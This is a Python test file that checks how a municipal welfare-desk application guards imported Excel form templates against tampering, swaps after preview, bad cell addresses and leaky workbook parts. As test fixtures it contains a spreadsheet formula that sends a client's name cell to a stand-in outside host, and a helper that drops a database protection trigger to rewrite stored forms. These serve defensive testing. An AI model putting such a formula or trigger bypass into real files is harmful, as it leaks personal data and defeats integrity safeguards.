"""取り込んだ様式の守り: 書き換えられた中身、下見の後の差し替え、打ち間違えた番地、外へ出る式。"""

from __future__ import annotations

from pathlib import Path

import pytest

from jusou_desk.casework.desk import Desk
from jusou_desk.casework.paper.papers import draw_sheet, hand_out_sheet
from jusou_desk.casework.town_forms import own_forms
from jusou_desk.casework.town_forms.own_form_papers import paper
from jusou_desk.errors import BadInput, Damaged, Refused
from jusou_desk.models.own_forms import CellLink, form_digest
from jusou_desk.models.records import Case
from jusou_desk.reports.inspection.findings import Grade
from jusou_desk.reports.xlsx.package import read_parts, write_parts
from jusou_desk.wareki import FiscalYear
from tests.casework.paper_case import received
from tests.reports.layouts import new_book, put, saved


def form(words: str = "第一版", formula: str = "") -> bytes:
    book, sheet = new_book("票")
    put(sheet, "A1:D1", words)
    put(sheet, "A2:D2", "{{氏名}}")
    if formula:
        put(sheet, "A4", formula)
    return saved(book)


def use(desk: Desk, data: bytes) -> None:
    checked = own_forms.check_form(desk, paper(desk, "intake"), data, "票.xlsx")
    own_forms.bring_in(desk, checked, "相談票", FiscalYear(2026))


def tamper(desk: Desk, column: str, value: bytes | str) -> None:
    """鍵を持つ人が、引き金を外して棚を書き換える。"""
    table = "office_form_file" if column == "data" else "office_form"
    connection = desk._store.raw_connection()
    connection.execute(f"DROP TRIGGER IF EXISTS {table}_no_update")
    connection.execute(f"UPDATE {table} SET {column} = ?", (value,))
    connection.close()


def wrong(desk: Desk) -> list[str]:
    return [check.problem for check in desk.verify() if check.problem]


@pytest.fixture
def case(desk: Desk) -> Case:
    return received(desk)


@pytest.mark.parametrize(
    ("column", "value"),
    [
        ("data", form("生活保護を辞退します")),
        ("links", '[{"sheet": "票", "cell": "A1", "tag": "相談内容"}]'),
    ],
    ids=["中身", "結び"],
)
def test_書き換えられた様式では紙を出さず_検査でも分かる(
    desk: Desk, case: Case, column: str, value: bytes | str
) -> None:
    use(desk, form())
    assert draw_sheet(desk, "intake", case.case_no).files
    assert not wrong(desk)
    tamper(desk, column, value)
    with pytest.raises(Damaged, match="「相談票」の中身が、取り込んだときと違っています"):
        draw_sheet(desk, "intake", case.case_no)
    with pytest.raises(Damaged):
        own_forms.open_own_form(desk, own_forms.own_forms(desk)[0])
    assert wrong(desk) == ["取り込んだときと違う様式が1件(書換えの疑い)"]


def test_要約値は_中身でも結びでも変わる() -> None:
    link = CellLink("票", "A1", "氏名")
    found = [form_digest(b"a", ()), form_digest(b"b", ()), form_digest(b"a", [link])]
    assert len(set(found)) == len(found)


def test_下見の後に様式が替わったら_書き出さない(desk: Desk, case: Case, tmp_path: Path) -> None:
    use(desk, form("版一"))
    seen = draw_sheet(desk, "intake", case.case_no)
    use(desk, form("版二"))
    with pytest.raises(Refused, match="下見した後に"):
        hand_out_sheet(desk, "intake", case.case_no, tmp_path / "先", previewed=seen)
    assert not (tmp_path / "先").exists()
    again = draw_sheet(desk, "intake", case.case_no)
    assert hand_out_sheet(desk, "intake", case.case_no, tmp_path, previewed=again).files


@pytest.mark.parametrize("cell", ["G", "A0", "XFE1", "A1:B2", "総括!B1"])
def test_打ち間違えた番地は_結ぶ前に断る(desk: Desk, cell: str) -> None:
    checked = own_forms.check_form(desk, paper(desk, "intake"), form(), "票.xlsx")
    with pytest.raises(BadInput):
        own_forms.link(desk, checked, "票", cell, "氏名")
    linked = own_forms.link(desk, checked, "票", "$B$4", "担当者")
    assert [one.cell for one in linked.links] == ["B4"]


LINKED = (
    b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    b"<externalBook><sheetDataSet><sheetData><row><cell><v>1</v></cell></row></sheetData>"
    b"</sheetDataSet></externalBook></externalLink>"
)
HARMFUL = {
    "xl/pivotCache/pivotCacheRecords1.xml": (b"<x/>", "集計する前の表の中身"),
    "xl/revisions/revisionHeaders.xml": (b"<x/>", "前に書いてあった値"),
    "xl/externalLinks/externalLink1.xml": (LINKED, "そのブックから写した値"),
    "xl/connections.xml": (b"<x/>", "外のデータへの接続"),
}


def with_parts(*names: str) -> bytes:
    return write_parts(read_parts(form()) | {name: HARMFUL[name][0] for name in names})


@pytest.mark.parametrize("name", HARMFUL)
def test_命令で渡した様式も_窓からの取込みと同じ赤で断る(desk: Desk, case: Case, name: str) -> None:
    template, told = with_parts(name), HARMFUL[name][1]
    checked = own_forms.check_form(desk, paper(desk, "intake"), template, "票.xlsx")
    (red,) = [one for one in checked.findings if one.grade is Grade.RED]
    assert told in red.what
    with pytest.raises(BadInput) as refused:
        draw_sheet(desk, "intake", case.case_no, template=template)
    assert (refused.value.title, refused.value.advice) == (red.what, red.advice)


def test_命令で渡した様式の赤が幾つもあれば_残りの数を言う(desk: Desk, case: Case) -> None:
    with pytest.raises(BadInput) as refused:
        draw_sheet(desk, "intake", case.case_no, template=with_parts(*HARMFUL))
    assert refused.value.advice.endswith("直す所は、ほかに3つあります。")


def test_命令で渡した様式も_外へ値を送る式なら断る(desk: Desk, case: Case) -> None:
    template = form(formula='=_xlfn.WEBSERVICE("https://e.example/?"&A2)')
    with pytest.raises(BadInput, match="外とつながる数式"):
        draw_sheet(desk, "intake", case.case_no, template=template)
    assert draw_sheet(desk, "intake", case.case_no, template=form()).files
